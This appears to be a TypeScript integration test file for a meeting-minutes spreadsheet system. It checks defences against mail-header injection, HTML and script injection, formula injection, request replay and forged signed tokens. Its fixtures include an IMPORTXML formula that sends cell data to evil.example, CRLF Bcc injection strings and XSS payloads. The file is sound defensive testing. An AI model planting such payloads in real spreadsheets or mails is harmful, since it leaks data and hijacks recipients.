// Hostile input on the minutes and actions surface (issue 14 reviewed against issue 13's standard: nothing typed
// can destroy or leak data), through the local stack: a meeting title built to break mail headers and HTML, minutes
// lines that look like formulas, and an action line as long as a minutes line may be; then the signed "Finalize
// minutes" request replayed, the response page prefetched by a mail scanner (GET), answered twice with the same
// objection, and opened with links signed for someone or something else. The clock starts at WORKING_MORNING.
import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { signResponseToken } from '../../functions/src/domain/minutes/response-link.ts';
import { WORKING_MORNING, signedHeaders } from '../support/pinned-time.ts';
import {
  ATTENDANCE_TAB,
  HOST,
  type MailboxMessage,
  RECORDER,
  cellAt,
  stackFirestore,
  useLocalWorkbook,
} from './support/local-workbook.ts';

const MINUTES_TAB = '纪要';
const ACTIONS_TAB = '行动项';
const STAFF = 'zhao.lei@demo.example';
const INJECTED = 'victim@evil.example';
/** A title that would add a Bcc header if a line break reached the subject, and markup if not escaped. */
const TITLE = `<b>复盘</b> Review\r\nBcc: ${INJECTED}`;
const FORMULA = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")';
/** Longer than an Actions row's 2,000 characters, shorter than a minutes line's 5,000. */
const LONG_ACTION = `${'跟进经销商库存'.repeat(400)}`;

describe('minutes and actions under hostile input', () => {
  const workbook = useLocalWorkbook('minutes-hostile');
  const { mailbox, readTab, setClock, tick, typeAdHocMeeting, typeRows } = workbook;
  let meetingId = '';
  let lineRows: Array<Record<string, string>> = [];
  let finalizeBody = '';
  let finalizeHeaders: Record<string, string> = {};

  const post = async (body: string, headers: Record<string, string>) => {
    const response = await fetch(`${workbook.stack.url}/functions/sheetEdit`, { method: 'POST', headers, body });
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  };
  const finalizeRequest = (editor: string) =>
    JSON.stringify({
      version: 2,
      kind: 'sendNotice',
      action: 'finalizeMinutes',
      eventId: randomUUID(),
      spreadsheetId: workbook.stack.spreadsheetId,
      editor,
      meetingId,
      sentAt: workbook.now().toISO(),
    });
  const minutesMails = async (address: string) =>
    (await mailbox(address)).filter((m) => m.subject.includes('会议纪要待确认'));
  const objectionMails = async () => (await mailbox(RECORDER)).filter((m) => m.subject.includes('会议纪要异议'));
  const tokenOf = (mail: MailboxMessage) => {
    const link = /https?:\/\/\S+\/functions\/minutesResponse\?t=([^\s&]+)/u.exec(mail.text);
    expect(link, mail.subject).not.toBeNull();
    return decodeURIComponent(link![1]!);
  };
  const page = (init: { method: string; token?: string; fields?: Record<string, string>; query?: string }) =>
    fetch(`${workbook.stack.url}/functions/minutesResponse${init.query ?? ''}`, {
      method: init.method,
      ...(init.method === 'POST'
        ? {
            headers: { 'content-type': 'application/x-www-form-urlencoded' },
            body: new URLSearchParams({ ...(init.token ? { t: init.token } : {}), ...init.fields }).toString(),
          }
        : {}),
    }).then(async (r) => ({ status: r.status, html: await r.text() }));
  const minutesState = async () =>
    (
      await stackFirestore(workbook.stack)
        .doc(`workbooks/${workbook.stack.spreadsheetId}/minutesStates/${meetingId}`)
        .get()
    ).data()?.state as { version: number; responses: unknown[]; objections: unknown[] } | undefined;

  it('a meeting whose title and lines are hostile is saved as typed', async () => {
    setClock(WORKING_MORNING);
    meetingId = await typeAdHocMeeting(TITLE, WORKING_MORNING.minus({ hours: 2 }), 60);
    await typeRows(ATTENDANCE_TAB, [
      { 会议: meetingId, 参会人: HOST, 会议角色: '主持人' },
      { 会议: meetingId, 参会人: RECORDER, 会议角色: '记录人' },
      { 会议: meetingId, 参会人: STAFF, 会议角色: '参会人' },
    ]);
    lineRows = await typeRows(
      MINUTES_TAB,
      [
        { 会议: meetingId, 类别: '讨论', 内容: 'مرحبا 🎉 <script>alert(1)</script> \u202Eevil' },
        { 会议: meetingId, 类别: '行动项', 内容: FORMULA, 负责人: STAFF, 截止日期: '2027-03-12' },
        { 会议: meetingId, 类别: '行动项', 内容: LONG_ACTION, 负责人: STAFF, 截止日期: '2027-03-12' },
      ],
      RECORDER,
    );
    expect(lineRows.map((line) => line.状态!.split('\n')[0])).toEqual(['OK', 'OK', 'OK']);
  });

  it('the tick writes each action line as an Actions row that is saved, formulas as plain text', async () => {
    const report = await tick();
    expect(report.workbooks[0]!.error).toBeUndefined();
    const values = (await readTab(ACTIONS_TAB)).values;
    const header = values[0]!;
    const rowOf = (text: string) => values.findIndex((row) => row[header.indexOf('事项')] === text) + 1;
    // Read back exactly as typed: a formula would read as its (error) value, not as this text.
    expect(rowOf(FORMULA)).toBeGreaterThan(1);
    expect(cellAt(values, rowOf(FORMULA), '状态')).toBe('OK');
    // An accepted action line always becomes a tracked action: never a row refused for the line's own text.
    expect(rowOf(LONG_ACTION)).toBeGreaterThan(1);
    expect(cellAt(values, rowOf(LONG_ACTION), '状态')).toBe('OK');
  });

  it('finalize through a signed request; the same request replayed does not act again', async () => {
    setClock(WORKING_MORNING.plus({ minutes: 10 }));
    finalizeBody = finalizeRequest(RECORDER);
    finalizeHeaders = signedHeaders(workbook.stack, finalizeBody);
    const first = await post(finalizeBody, finalizeHeaders);
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    expect(first.body).toMatchObject({ state: 'issued', version: 1 });

    // The recorder corrects a line; a captured copy of the first press arrives again within the signature window.
    const header = (await readTab(MINUTES_TAB)).values[0]!;
    const row = (await readTab(MINUTES_TAB)).values.findIndex((r) => r.includes(lineRows[0]!.编号!)) + 1;
    await workbook.postEdit(MINUTES_TAB, {
      row,
      column: header.indexOf('内容') + 1,
      values: [['讨论已更正']],
      editor: RECORDER,
    });
    const replayed = await post(finalizeBody, finalizeHeaders);
    expect(replayed.status, JSON.stringify(replayed.body)).toBe(200);
    expect(replayed.body).toMatchObject({ state: 'issued', version: 1, replayed: true });
    expect((await minutesState())!.version).toBe(1);
    for (const address of [HOST, RECORDER, STAFF]) expect(await minutesMails(address), address).toHaveLength(1);
  });

  it('the minutes mail keeps the title on one subject line and escaped in HTML; nobody else is mailed', async () => {
    const [mail] = await minutesMails(STAFF);
    expect(mail!.subject).not.toMatch(/[\r\n]/u);
    expect(mail!.html ?? '').not.toContain('<b>复盘</b>');
    expect(await mailbox(INJECTED)).toHaveLength(0);
  });

  it('a GET of the link (a mail scanner prefetching it) records nothing, whatever the query says', async () => {
    const [mail] = await minutesMails(STAFF);
    const token = tokenOf(mail!);
    for (const answer of ['confirm', 'object']) {
      const shown = await page({ method: 'GET', query: `?t=${encodeURIComponent(token)}&answer=${answer}&reason=x` });
      expect(shown.status).toBe(200);
    }
    const state = await minutesState();
    expect(state!.responses).toEqual([]);
    expect(state!.objections).toEqual([]);
  });

  it('a POST with no token, or one for another recipient, meeting, workbook or version, records nothing', async () => {
    const expires = Math.floor(workbook.now().plus({ days: 1 }).toSeconds());
    const claims = { workbookId: workbook.stack.spreadsheetId, meetingId, version: 1, recipient: STAFF, expires };
    const forged = [
      signResponseToken({ ...claims, recipient: 'stranger@demo.example' }, workbook.stack.secret),
      signResponseToken({ ...claims, meetingId: 'M-00000000' }, workbook.stack.secret),
      signResponseToken({ ...claims, workbookId: 'another-workbook' }, workbook.stack.secret),
      signResponseToken({ ...claims, version: 2 }, workbook.stack.secret),
      signResponseToken(claims, 'another-secret-of-16-chars-or-more'),
    ];
    const none = await page({ method: 'POST', fields: { answer: 'object', reason: 'no token' } });
    expect(none.status).toBe(403);
    for (const token of forged) {
      const answered = await page({ method: 'POST', token, fields: { answer: 'object', reason: 'forged' } });
      expect(answered.status, token).toBeGreaterThanOrEqual(400);
    }
    const state = await minutesState();
    expect(state!.responses).toEqual([]);
    expect(state!.objections).toEqual([]);
    expect(await objectionMails()).toHaveLength(0);
  });

  it('the same objection posted twice (a double submit, a replay) mails the recorder once', async () => {
    const [mail] = await minutesMails(STAFF);
    const token = tokenOf(mail!);
    const reason = '<img src=x onerror=alert(1)>\r\nBcc: victim@evil.example';
    for (let i = 0; i < 2; i++) {
      setClock(WORKING_MORNING.plus({ minutes: 20 + i }));
      const answered = await page({ method: 'POST', token, fields: { answer: 'object', reason } });
      expect(answered.status).toBe(200);
      expect(answered.html).not.toContain('<img');
    }
    const mails = await objectionMails();
    expect(mails).toHaveLength(1);
    expect(mails[0]!.subject).not.toMatch(/[\r\n]/u);
    expect(mails[0]!.html ?? '').not.toContain('<img');
    expect(await mailbox(INJECTED)).toHaveLength(0);
  });
});
